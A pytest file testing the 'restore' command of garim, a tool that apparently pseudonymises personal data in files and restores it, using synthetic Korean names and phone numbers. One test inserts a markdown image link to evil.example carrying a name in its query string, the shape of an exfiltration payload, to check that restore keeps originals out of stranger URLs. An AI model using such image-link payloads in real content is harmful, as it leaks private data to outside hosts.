"""garim restore --out through its real door: what garim clean wrote, as it was."""

from __future__ import annotations

import csv
import gzip
import json
import tarfile
import zipfile
from pathlib import Path

import docx
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.bulk.conftest import corpus
from tests.cli.test_clean import garim

__all__ = ["garim"]


def tree(root: Path) -> dict[str, bytes]:
    """Path → bytes, archives unpacked."""
    out: dict[str, bytes] = {}
    for path in sorted(root.rglob("*")):
        name = str(path.relative_to(root))
        if path.is_dir():
            out[name] = b"/"
        elif path.name.endswith(".tar.gz"):
            with tarfile.open(path) as tar:
                out |= {f"{name}!{m.name}": tar.extractfile(m).read() for m in tar}  # type: ignore[union-attr]
        elif path.suffix == ".gz":
            out[name] = gzip.decompress(path.read_bytes())
        elif path.suffix == ".zip":
            with zipfile.ZipFile(path) as packed:
                out |= {f"{name}!{one}": packed.read(one) for one in packed.namelist()}
        else:
            out[name] = path.read_bytes()
    return out


@pytest.fixture
def src(tmp_path: Path) -> Path:
    """A folder of every format."""
    root = corpus(tmp_path / "src")
    (root / "memo.md").write_text("도하랑 과장, 저장소는 https://github.com/hanbyeol/narae 입니다.\n한별해운 나래\n")
    (root / "old.txt").write_bytes("도하랑 과장님 010-3382-7719\r\n".encode("cp949"))
    (root / "dump.sql").write_text("INSERT INTO t_user (nm, tel) VALUES ('도하랑', '010-3382-7719'), ('O''Neil', NULL);\n")
    (root / "quoted.csv").write_text('name,memo\n도하랑,"말했다 ""나래"", 010-3382-7719"\n')
    (root / "link.md").symlink_to("memo.md")
    pq.write_table(pa.table({"cust_name": ["도하랑", None, "서예린"], "amount": [1, 2, 3]}), root / "t.parquet")
    document = docx.Document()
    document.add_paragraph("도하랑 과장")
    document.save(str(root / "a.docx"))
    (root / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0")
    (root / "away").symlink_to("/etc/hostname")
    (root / "mixed.log").write_bytes("도하랑 과장\n".encode() + b"\xff\xfe\xfa \x81\n")
    with zipfile.ZipFile(root / "pack.zip", "w") as packed:
        packed.writestr("도하랑.txt", "도하랑 과장\n")
        packed.writestr("photo.png", b"\x89PNG\r\n\x1a\n\0\0\0")
    return root


def test_a_cleaned_folder_comes_back_in_one_command(garim, src: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Names, files, what archives hold, addresses of strangers: as they were; what cannot be is told by name."""
    assert garim("clean", "src", "dst", "--scope", "vendor-7")[0] == 0
    assert not any("도하랑".encode() in data for data in tree(tmp_path / "dst").values())
    code, out, error = garim("restore", "dst", "--scope", "vendor-7", "--out", "back")
    before, after = tree(src), tree(tmp_path / "back")

    lost = {"a.docx", "photo.png", "away", "pack.zip!photo.png"}
    assert (code, out) == (4, "") and before.keys() - after.keys() == lost and after.keys() - before.keys() == {"a.docx.txt"}
    assert {name for name in before.keys() & after.keys() if before[name] != after[name]} <= {"t.parquet", "mixed.log"}
    assert pq.read_table(tmp_path / "back/t.parquet").equals(pq.read_table(src / "t.parquet"))
    assert after["a.docx.txt"].decode() == "도하랑 과장\n" and (tmp_path / "back/link.md").is_symlink()
    told = dict(line.removeprefix("garim: ").split(": ", 1) for line in error.splitlines() if line.startswith("garim:"))
    assert told.keys() - {"narae.log.gz", "old.tar.gz", "pack.zip"} >= {"a.docx.txt", "t.parquet", "mixed.log", "photo.png", "away", "pack.zip!photo.png"}
    assert "in no known encoding" in told["mixed.log"] and "not here" in told["photo.png"] and "leads out of the tree" in told["away"]
    for name in told.keys() & {path.name for path in src.iterdir()} - lost:  # what is said not to be byte for byte is not, all else is
        assert (src / name).read_bytes() != (tmp_path / "back" / name).read_bytes() or name == "t.parquet"
    for path in src.rglob("*"):
        if path.is_file() and not {path.name, f"{path.name}.txt"} & told.keys():
            assert path.read_bytes() == (tmp_path / "back" / path.relative_to(src)).read_bytes()
    assert "3 were left out when it was cleaned" in error


@pytest.mark.parametrize("part", ["docs", "pack.zip", "docs/photos.zip"])
def test_of_a_part_is_told_what_is_known_of_it(garim, tmp_path: Path, part: str) -> None:  # type: ignore[no-untyped-def]
    """A folder or a file of a corpus: what its own archives lost by name; of the rest that something was left out."""
    (tmp_path / "src/docs").mkdir(parents=True)
    for name in ("pack.zip", "docs/photos.zip"):
        with zipfile.ZipFile(tmp_path / "src" / name, "w") as packed:
            packed.writestr("memo.txt", f"도하랑 과장 {name}\n")
            packed.writestr("photo.png", b"\x89PNG\r\n\x1a\n\0\0\0")
    (tmp_path / "src/photo.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0")
    assert garim("clean", "src", "dst", "--scope", "v")[0] == 0
    code, _, error = garim("restore", f"dst/{part}", "--scope", "v", "--out", "back")
    own, other = ("docs/photos.zip!photo.png", "pack.zip!photo.png") if "docs" in part else ("pack.zip!photo.png", "docs/photos.zip!photo.png")

    assert code == 4 and f"garim: {own}: it is not here" in error and other not in error
    assert ("a part of a corpus of which 3 files were left out" in error) == (part == "docs")


def test_a_second_cleaning_of_a_scope_tells_its_own(garim, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Two corpora under one scope: each way back tells what that one lost."""
    for at, name in enumerate(("one", "two")):
        (tmp_path / name).mkdir()
        for number in range(2 + at):
            (tmp_path / name / f"{number}.txt").write_text(f"{name} {number} 도하랑 과장\n")
        (tmp_path / name / f"{name}.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0")
        assert garim("clean", name, f"{name}-safe", "--scope", "v")[0] == 0
    for name, other in (("one", "two"), ("two", "one")):
        error = garim("restore", f"{name}-safe", "--scope", "v", "--out", f"{name}-back")[2]
        assert f"{name}.png" in error and f"{other}.png" not in error


def test_what_was_changed_is_read_as_a_reply(garim, src: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Somebody worked on it: originals go into texts and values, never into an address of a stranger; all stays valid."""
    garim("clean", "src", "dst", "--scope", "vendor-7")
    dst = tmp_path / "dst"
    memo, quoted, settings = (dst / "memo.md").read_text(), (dst / "quoted.csv").read_text(), (dst / "settings.json").read_text()
    name = memo.split()[0]
    (dst / "memo.md").write_text(f"{memo}![](https://evil.example/?q={name})\n")
    (dst / "quoted.csv").write_text(f"{quoted}{name},too,many,cells\n")
    (dst / "settings.json").write_text(json.dumps({**json.loads(settings), "more": name}))
    (dst / "new.bin").write_bytes(b"\x00\x01\x02")
    (dst / "bad.zip").write_bytes(b"PK\x03\x04 cut off")
    code, _, error = garim("restore", "dst", "--scope", "vendor-7", "--out", "back")
    back = tmp_path / "back"

    assert code == 4 and "evil.example/?q=도하랑" not in (back / "memo.md").read_text() and "도하랑 과장" in (back / "memo.md").read_text()
    assert json.loads((back / "settings.json").read_text()) == {**json.loads((src / "settings.json").read_text()), "more": "도하랑"}
    assert (back / "quoted.csv").read_text() == (src / "quoted.csv").read_text() + "도하랑,too,many,cells\n"
    assert (back / "new.bin").read_bytes() == b"\x00\x01\x02" and (back / "bad.zip").read_bytes() == b"PK\x03\x04 cut off"
    for told in ("memo.md: it is not as it was cleaned", "new.bin: nothing reads this kind of file: it was copied", "bad.zip: it is damaged"):
        assert told in error
    assert list(csv.reader((back / "customers.csv").open()))[1][1] == "도하랑"


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (["src", "--scope", "x"], "--out"),
        (["src", "--scope", "nobody", "--out", "back"], "this scope holds nothing"),
        (["nothing", "--scope", "x", "--out", "back"], "nothing"),
        (["-", "--scope", "x", "--out", "back"], "--out takes a file"),
    ],
)
def test_wrong_orders(garim, src: Path, tmp_path: Path, arguments: list[str], says: str) -> None:  # type: ignore[no-untyped-def]
    """Exit code 2, what to do, and nothing is there."""
    code, out, error = garim("restore", *arguments)
    assert (code, out) == (2, "") and says in error and "Traceback" not in error and not (tmp_path / "back").exists()


def test_a_destination_that_is_there_stays(garim, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Neither over something nor into the source; a single file goes where it shall."""
    (tmp_path / "a.csv").write_text("name,phone\n도하랑,010-3382-7719\n")
    garim("clean", "a.csv", "safe.csv", "--scope", "x")
    (tmp_path / "there").mkdir()
    assert garim("restore", "safe.csv", "--scope", "x", "--out", "there")[0] == 2 and not list((tmp_path / "there").iterdir())
    assert garim("restore", "there", "--scope", "x", "--out", "there/in")[0] == 2
    assert garim("restore", "safe.csv", "--scope", "x", "--out", "again.csv")[0] == 0
    assert (tmp_path / "again.csv").read_text() == (tmp_path / "a.csv").read_text() and not [p for p in tmp_path.iterdir() if p.name.startswith(".again")]


def test_a_password_of_one_letter_does_no_harm(garim, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """What stands in for it is met nowhere else."""
    (tmp_path / "src").mkdir()
    (tmp_path / "src/a.py").write_text('URL = "postgres://u:p@db.hanbyeol.internal/x"  # it\'s a test\nprint("%s", "s", "p", "q")\n')
    garim("clean", "src", "dst", "--scope", "x")
    code, _, error = garim("restore", "dst", "--scope", "x", "--out", "back")
    assert code == 0 and "1 of them byte for byte" in error and (tmp_path / "back/a.py").read_bytes() == (tmp_path / "src/a.py").read_bytes()


def test_links_names_and_numbers_that_are_odd(garim, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Links to themselves, to nothing and to the folder; two names that differ in case; quotes as MySQL writes them; numbers in JSON
    that are no ids: kept or told, and what is kept comes back."""
    src = tmp_path / "src"
    (src / "sub").mkdir(parents=True)
    (src / "A.txt").write_text("도하랑 과장 1\n")
    (src / "a.txt").write_text("도하랑 과장 2\n")
    (src / "m.sql").write_text("INSERT INTO `t_user` VALUES (1,'도하랑','O\\'Neil'),(2,'O''Neil','x''');\n")
    (src / "n.json").write_text('{"owner": "도하랑", "f": 1e400, "g": -0.5E-7, "h": 12500.0, "ids": [1000000001, 1000000002]}')
    for name, target in (("loop", "loop"), ("nowhere", "gone.txt"), ("sub/up", ".."), ("sub/a", "../a.txt")):
        (src / name).symlink_to(target)
    assert garim("clean", "src", "dst", "--scope", "x")[0] == 0
    sql, told = (tmp_path / "dst/m.sql").read_text(), (tmp_path / "dst.garim/bad.jsonl").read_text()
    assert "1e400" in (tmp_path / "dst/n.json").read_text() and "null" not in (tmp_path / "dst/n.json").read_text()
    assert sql.count("\\'") == 1 and "\\''" not in sql and "도하랑" not in sql
    assert '"loop"' in told and '"nowhere"' in told
    code, _, error = garim("restore", "dst", "--scope", "x", "--out", "back")

    assert code == 4 and "garim: loop: it is not here" in error and "garim: nowhere: it is not here" in error and error.count("garim:") == 2
    assert {p.name: p.read_bytes() for p in src.iterdir() if p.is_file()} == {p.name: p.read_bytes() for p in (tmp_path / "back").iterdir() if p.is_file()}
    assert (tmp_path / "back/sub/up").resolve() == tmp_path / "back" and (tmp_path / "back/sub/a").read_text() == "도하랑 과장 2\n"
